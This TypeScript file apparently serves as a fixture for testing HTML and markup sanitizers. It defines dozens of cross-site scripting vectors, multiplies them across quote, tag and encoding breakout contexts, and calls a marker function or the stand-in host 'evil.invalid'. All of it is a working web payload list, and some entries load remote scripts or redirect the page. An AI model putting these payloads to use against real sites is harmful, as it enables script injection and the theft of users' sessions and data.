/** Text that wants to become markup or code. Each calls `__xss()`, leaves the page, or loads something from EVIL if it is let. */

/** A host that nobody has. */
export const EVIL = 'evil.invalid'
const CALL = '__xss()'

const VECTORS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src=//${EVIL}/x.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<ImG sRc=x OnErRoR=${CALL}>`,
  `<img src=x onerror\n=\n${CALL}>`,
  `<img src="x" onerror="&#95;&#95;xss()">`,
  `<img src=//${EVIL}/x.png>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${CALL}></mtext></math>`,
  `<details open ontoggle=${CALL}><summary>x</summary></details>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CALL}"></iframe>`,
  `<iframe src=//${EVIL}/></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}><option>x</select>`,
  `<video src=x onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<video><source onerror=${CALL}></video>`,
  `<body onload=${CALL}>`,
  `<style onload=${CALL}>*{}</style>`,
  `<style>@import '//${EVIL}/x.css';</style>`,
  `<link rel=stylesheet href=//${EVIL}/x.css onerror=${CALL}>`,
  `<meta http-equiv=refresh content="0;url=//${EVIL}/">`,
  `<base href=//${EVIL}/>`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}" target=_self>x</a>`,
  `<div style="animation:x" onanimationstart=${CALL}><style>@keyframes x{}</style></div>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></p></noscript>`,
  `<template><img src=x onerror=${CALL}></template><img src=x onerror=${CALL}>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `[x](javascript:${CALL})`,
  `![x](x"onerror="${CALL})`,
  `https://example.com/"onmouseover="${CALL}`,
  `https://example.com/'><img src=x onerror=${CALL}>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `$t(welcome:menu.say, {"x": "<img src=x onerror=${CALL}>"})`,
  `{{name}}<img src=x onerror=${CALL}>`,
]

const CONTEXTS: readonly ((vector: string) => string)[] = [
  (v) => v,
  (v) => `">${v}`,
  (v) => `'>${v}`,
  (v) => `" ${v} x="`,
  (v) => `</p></div></article>${v}`,
  (v) => `</textarea></title></style>${v}`,
  (v) => `</script>${v}`,
  (v) => `-->]]>${v}<!--`,
  (v) => v.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (v) => encodeURIComponent(v),
  (v) => v.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (v) => `\u202e${v}\u200b`,
  (v) => `Bonjour, ${v} merci`,
]

/** Every vector in every context; more than 500. */
export const PAYLOADS: readonly string[] = [
  ...new Set(VECTORS.flatMap((vector) => CONTEXTS.map((context) => context(vector)))),
]
